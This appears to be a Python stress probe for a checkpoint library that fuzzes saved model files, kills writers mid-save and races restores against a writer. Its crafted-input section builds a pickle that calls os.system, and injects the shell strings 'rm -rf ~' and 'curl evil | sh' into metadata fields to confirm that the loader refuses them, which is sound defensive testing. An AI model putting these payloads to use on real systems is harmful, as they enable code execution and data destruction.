"""Checkpoint stress probe: mutated and hand-crafted files, SIGKILLs during save, restores racing a writer.

Three parts, each printing counts by outcome (not part of the default tests; the smoke test runs
``--quick``):

* **mutated files** (``--files N``): a ``fastnas`` checkpoint of a small digits CNN, damaged N ways
  (bit flips, truncation, any node of a header JSON table replaced by junk, tensor entries edited,
  metadata keys dropped; the digest is recomputed for the edits so that only validation can catch
  them) plus hand-crafted malicious files (a pickle, a zip, a shell command as the plugin name, a
  5000-digit integer, ``dtype: []``, deep nesting, ...). Each must give a ``ModeoptError`` with the
  fresh model untouched, or a model exactly as the file says; ``inspect_checkpoint`` must never raise.
* **kills** (``--kills K``): a child process saves in a loop and is SIGKILLed at a random moment, K
  times; the file must restore to one complete save each time, and the stray temporaries a kill left
  must be gone after the next save.
* **races** (``--races R``): a child process re-saves one path while this process restores it R
  times; every restore must be one complete save (weights and mode state of the same save).

    .venv/bin/python bench/checkpoint_stress.py [--files 2000] [--kills 40] [--races 200] [--seed 0] [--quick]
"""

from __future__ import annotations

import argparse
import json
import logging
import os
import random
import struct
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from _common import machine_line, markdown_table, reproduce_line, set_threads
from torch import nn

import modeopt_core as mo
from modeopt_core._atomic import temporary_pattern
from modeopt_core._container import DIGEST_KEY, feed_digest, new_digest
from modeopt_core._reader import ContainerFile

_WIDTHS = (8, 16, 32)  # the mutated files: small, so that thousands restore quickly
_BIG_WIDTHS = (64, 128, 256)  # kills and races: 11 MB, so that saves take long enough to be hit
_TABLES = ("state", "extra_state", "aliases", "mode_provider", "module_versions")


# --------------------------------------------------------------------------- models
def _fresh(widths: tuple[int, int, int] = _WIDTHS) -> nn.Module:
    from modeopt_fastnas.digits import DigitsResNet

    return DigitsResNet(widths)


def _set_save_number(model: nn.Module, k: int) -> nn.Module:
    """Make ``model`` save number ``k``: the subnet chosen by ``k``, every parameter equal to ``k``."""
    from modeopt_autonas.space import get_search_space

    space = get_search_space(model)
    space.select({name: hp.choices[k % len(hp.choices)] for name, hp in space.named_hparams(True)})
    with torch.no_grad():
        for p in model.parameters():
            p.fill_(float(k))
    return model


def _snapshot(k: int, widths: tuple[int, int, int] = _WIDTHS) -> nn.Module:
    """Save number ``k`` of a ``fastnas``-converted digits CNN."""
    torch.manual_seed(0)
    return _set_save_number(mo.apply_mode(_fresh(widths), ["fastnas"]), k)


def _consistent(model: nn.Module) -> int | None:
    """The save number a restored model holds, or None if its weights and subnet come from different saves."""
    from modeopt_autonas.space import get_search_space

    values = {float(v) for p in model.parameters() for v in p.detach().unique()}
    if len(values) != 1:
        return None
    k = int(values.pop())
    space = get_search_space(model)
    want = {name: hp.choices[k % len(hp.choices)] for name, hp in space.named_hparams(True)}
    return k if space.config() == want else None


# --------------------------------------------------------------------------- forging files
def _forge(raw: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    """``raw`` with its header JSON edited by ``edit`` and the digest recomputed where the entries allow."""
    (n,) = struct.unpack("<Q", raw[:8])
    header, data = json.loads(raw[8 : 8 + n]), raw[8 + n :]
    edit(header)
    meta = header.get("__metadata__")
    if isinstance(meta, dict):
        try:
            h = new_digest(meta)
            entries = sorted((k, v) for k, v in header.items() if k != "__metadata__")
            feed_digest(h, ((k, v["dtype"], tuple(v["shape"]), memoryview(data)[v["data_offsets"][0]:v["data_offsets"][1]])
                            for k, v in entries))
            meta[DIGEST_KEY] = f"sha256:{h.hexdigest()}"
        except Exception:  # a structurally broken entry: the reader must refuse it before the digest
            pass
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data


def _junk(rng: random.Random, depth: int = 0) -> Any:
    roll = rng.random()
    if depth > 2 or roll < 0.5:
        return rng.choice([None, True, 0, -1, 2**63, 10**400, 1.5, "", "x", "__modeopt__/state/0", "F32", [], {}])
    if roll < 0.7:
        return [_junk(rng, depth + 1) for _ in range(rng.randint(0, 3))]
    if roll < 0.85:
        return {rng.choice(["a", "name", "config", "0"]): _junk(rng, depth + 1) for _ in range(rng.randint(0, 3))}
    return {rng.choice(["__tuple__", "__dict__", "__float__", "__tensor__", "__array__", "__zz__"]): _junk(rng, depth + 1)}


def _replace_node(tree: Any, rng: random.Random) -> Any:
    if not isinstance(tree, (list, dict)) or not tree or rng.random() < 0.25:
        return _junk(rng)
    key = rng.randrange(len(tree)) if isinstance(tree, list) else rng.choice(list(tree))
    if rng.random() < 0.15:
        return [v for i, v in enumerate(tree) if i != key] if isinstance(tree, list) else {
            k: v for k, v in tree.items() if k != key}
    copy = list(tree) if isinstance(tree, list) else dict(tree)
    copy[key] = _replace_node(tree[key], rng)
    return copy


def _mutate(raw: bytes, rng: random.Random) -> tuple[str, bytes]:
    kind = rng.choice(["flip", "truncate", "table", "table", "table", "entry", "key"])
    if kind == "flip":
        out = bytearray(raw)
        for _ in range(rng.randint(1, 4)):
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
        return kind, bytes(out)
    if kind == "truncate":
        return kind, raw[: rng.randrange(len(raw))]
    if kind == "table":
        table = rng.choice(_TABLES)

        def edit(h: dict[str, Any]) -> None:
            h["__metadata__"][table] = json.dumps(_replace_node(json.loads(h["__metadata__"][table]), rng))
        return f"table:{table}", _forge(raw, edit)
    if kind == "entry":
        field = rng.choice(["dtype", "shape", "data_offsets"])

        def edit(h: dict[str, Any]) -> None:
            name = rng.choice(sorted(k for k in h if k != "__metadata__"))
            h[name][field] = rng.choice([_junk(rng), "I32", "F16", "BOOL", [rng.randint(0, 99)], [0, 4]])
        return f"entry:{field}", _forge(raw, edit)
    key = rng.choice([*_TABLES, "format", "format_version", "digest", "model_class"])

    def edit(h: dict[str, Any]) -> None:
        if rng.random() < 0.5:
            h["__metadata__"].pop(key, None)
        else:
            h["__metadata__"][key] = json.dumps(_junk(rng)) if rng.random() < 0.7 else "'; rm -rf ~; '"
    return f"key:{key}", _forge(raw, edit)


def _crafted(raw: bytes) -> dict[str, bytes]:
    """Hand-made malicious or foreign files."""
    import pickle
    import zipfile
    from io import BytesIO

    class _Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            return (os.system, ("echo pwned",))

    zipped = BytesIO()
    with zipfile.ZipFile(zipped, "w") as z:
        z.writestr("data.pkl", pickle.dumps(_Evil()))

    def meta(key: str, value: str) -> bytes:
        return _forge(raw, lambda h: h["__metadata__"].__setitem__(key, value))

    state = json.loads(json.loads(raw[8 : 8 + struct.unpack("<Q", raw[:8])[0]])["__metadata__"]["state"])
    gone = {**state, "modes": [{**state["modes"][0], "name": "gone_mode"}]}
    return {
        "pickle": pickle.dumps(_Evil()),
        "torch-zip-with-pickle": zipped.getvalue(),
        "empty": b"",
        "huge header length": struct.pack("<Q", 2**63) + b"{}",
        "header is an array": struct.pack("<Q", 2) + b"[]",
        "5000-digit integer": meta("module_versions", '{"a": ' + "9" * 5000 + "}"),
        "deeply nested state": meta("state", "[" * 50_000 + "]" * 50_000),
        "dtype []": _forge(raw, lambda h: h[sorted(k for k in h if k != "__metadata__")[0]].__setitem__("dtype", [])),
        "shell command as plugin name": _forge(raw, lambda h: h["__metadata__"].update(
            state=json.dumps(gone), mode_provider=json.dumps({"gone_mode": ["x'; curl evil | sh; '", "1"]}))),
        "non-string extra_state key": meta("extra_state", '{"__dict__": [[1, 2]]}'),
        "extra_state posing as weight": meta("extra_state", '{"stem.0.weight": 5}'),
        "tensor reference to a weight": meta("state", json.dumps({**state, "x": {"__tensor__": "stem.0.weight"}})),
        "appended bytes": raw + b"\0" * 8,
    }


def _try(path: Path) -> str:
    """One restore of ``path`` into a fresh model: what happened."""
    info = mo.inspect_checkpoint(path)
    inspect_note = "" if info.intact or "modeopt bug" not in (info.diagnosis or "") else " (inspect: internal error)"
    fresh = _fresh()
    before = {k: v.clone() for k, v in fresh.state_dict().items()}
    try:
        out = mo.restore(fresh, path)
    except mo.ModeoptError as exc:
        now = fresh.state_dict()
        untouched = mo.applied_modes(fresh) == [] and list(now) == list(before) and all(
            torch.equal(now[k], v) for k, v in before.items())
        return f"refused: {type(exc).__name__}" + ("" if untouched else " BUT MODEL CHANGED") + inspect_note
    except Exception as exc:  # what the probe looks for
        return f"UNTYPED {type(exc).__name__}: {str(exc)[:60]}"
    with ContainerFile(path) as f:
        aliases = json.loads(f.header.metadata.get("aliases", "{}"))
        fetch = f.reader(aliases, own=True)
        exact = all(torch.equal(t, fetch(n).to(t.dtype)) or bool(torch.isnan(t).all())
                    for n, t in out.state_dict().items())
    return ("restored exactly as the file says" if exact else "RESTORED SOMETHING ELSE") + inspect_note


def part_files(n: int, rng: random.Random, workdir: Path) -> Counter[str]:
    base = workdir / "base.safetensors"
    mo.save(_snapshot(3), base)
    raw = base.read_bytes()
    outcomes: Counter[str] = Counter()
    path = workdir / "mutated.safetensors"
    for _ in range(n):
        _, data = _mutate(raw, rng)
        path.write_bytes(data)
        outcomes[_try(path)] += 1
    for data in _crafted(raw).values():
        path.write_bytes(data)
        outcomes[f"crafted: {_try(path)}"] += 1
    return outcomes


# --------------------------------------------------------------------------- kills and races
def _writer(path: str, first: int) -> None:
    """Child: save number ``first``, ``first + 1``, ... to ``path`` forever; print each number once saved."""
    torch.set_num_threads(1)
    model = _snapshot(first, _BIG_WIDTHS)  # converted once: the loop is then nearly all save()
    k = first
    while True:
        mo.save(_set_save_number(model, k), path)
        print(k, flush=True)
        k += 1


def _spawn(path: Path, first: int) -> subprocess.Popen[str]:
    env = {**os.environ, "OMP_NUM_THREADS": "1", "MODEOPT_PROGRESS": "off"}
    proc = subprocess.Popen([sys.executable, __file__, "--child-writer", str(path), str(first)],
                            stdout=subprocess.PIPE, text=True, env=env)
    assert proc.stdout is not None
    proc.stdout.readline()  # the first save is in place
    return proc


def part_kills(k: int, rng: random.Random, workdir: Path) -> Counter[str]:
    path = workdir / "killed.safetensors"
    outcomes: Counter[str] = Counter()
    first = 0
    for _ in range(k):
        proc = _spawn(path, first)
        t0 = time.monotonic()
        proc.stdout.readline()  # type: ignore[union-attr]
        one_save = time.monotonic() - t0
        time.sleep(rng.uniform(0, 1.5) * one_save)
        proc.kill()
        proc.wait()
        proc.stdout.close()  # type: ignore[union-attr]
        strays = [p for p in workdir.iterdir() if temporary_pattern(path).fullmatch(p.name)]
        try:
            saved = _consistent(mo.restore(_fresh(_BIG_WIDTHS), path))
            outcomes["file restores to one complete save" if saved is not None else "MIXED FILE"] += 1
        except mo.ModeoptError as exc:
            outcomes[f"DAMAGED: {str(exc)[:60]}"] += 1
            saved = None
        outcomes[f"kill left {len(strays)} temporary file(s)"] += 1
        mo.save(_snapshot(0, _BIG_WIDTHS), path)  # the next save cleans up
        left = [p for p in workdir.iterdir() if temporary_pattern(path).fullmatch(p.name)]
        outcomes[f"after the next save: {len(left)} left"] += 1
        first = (saved or 0) + 1000
    return outcomes


def part_races(r: int, workdir: Path) -> Counter[str]:
    path = workdir / "raced.safetensors"
    outcomes: Counter[str] = Counter()
    proc = _spawn(path, 0)
    seen: set[int] = set()
    try:
        for _ in range(r):
            try:
                saved = _consistent(mo.restore(_fresh(_BIG_WIDTHS), path))
            except mo.ModeoptError as exc:
                outcomes[f"refused: {str(exc)[:50]}"] += 1
                continue
            except Exception as exc:
                outcomes[f"UNTYPED {type(exc).__name__}"] += 1
                continue
            if saved is None:
                outcomes["MIXED: weights and state of different saves"] += 1
            else:
                seen.add(saved)
                outcomes["one complete save"] += 1
    finally:
        proc.kill()
        proc.wait()
        proc.stdout.close()  # type: ignore[union-attr]
    outcomes[f"distinct saves seen: {len(seen)}"] += 1
    return outcomes


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--files", type=int, default=2000)
    parser.add_argument("--kills", type=int, default=40)
    parser.add_argument("--races", type=int, default=200)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--threads", type=int, default=2)
    parser.add_argument("--quick", action="store_true", help="tiny counts (smoke test)")
    parser.add_argument("--child-writer", nargs=2, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.child_writer:
        _writer(args.child_writer[0], int(args.child_writer[1]))
        return 0
    set_threads(args.threads)
    logging.getLogger("modeopt_core").setLevel(logging.ERROR)  # forged providers log a warning each
    files, kills, races = (20, 1, 4) if args.quick else (args.files, args.kills, args.races)
    rng = random.Random(args.seed)
    print(f"# Checkpoint stress: {files} mutated files (+ hand-crafted), {kills} kills, {races} racing restores\n")
    print(machine_line(args.threads) + "\n")
    failures = 0
    with tempfile.TemporaryDirectory() as tmp:
        for title, run in (("mutated and crafted files", lambda: part_files(files, rng, Path(tmp))),
                           ("SIGKILL during save", lambda: part_kills(kills, rng, Path(tmp))),
                           ("restores racing a writer", lambda: part_races(races, Path(tmp)))):
            t0 = time.monotonic()
            counts = run()
            print(f"## {title} ({time.monotonic() - t0:.0f} s)\n")
            print(markdown_table(["outcome", "count"], sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))))
            print()
            failures += sum(n for outcome, n in counts.items() if any(
                word in outcome for word in ("UNTYPED", "MIXED", "DAMAGED", "BUT MODEL CHANGED", "SOMETHING ELSE",
                                             "internal error")))
    print(f"failures (untyped errors, mixed or damaged files, changed models): {failures}")
    print(machine_line(args.threads).replace("machine:", "after:"))
    print(reproduce_line("checkpoint_stress.py", argv))
    return 1 if failures else 0


if __name__ == "__main__":
    raise SystemExit(main())
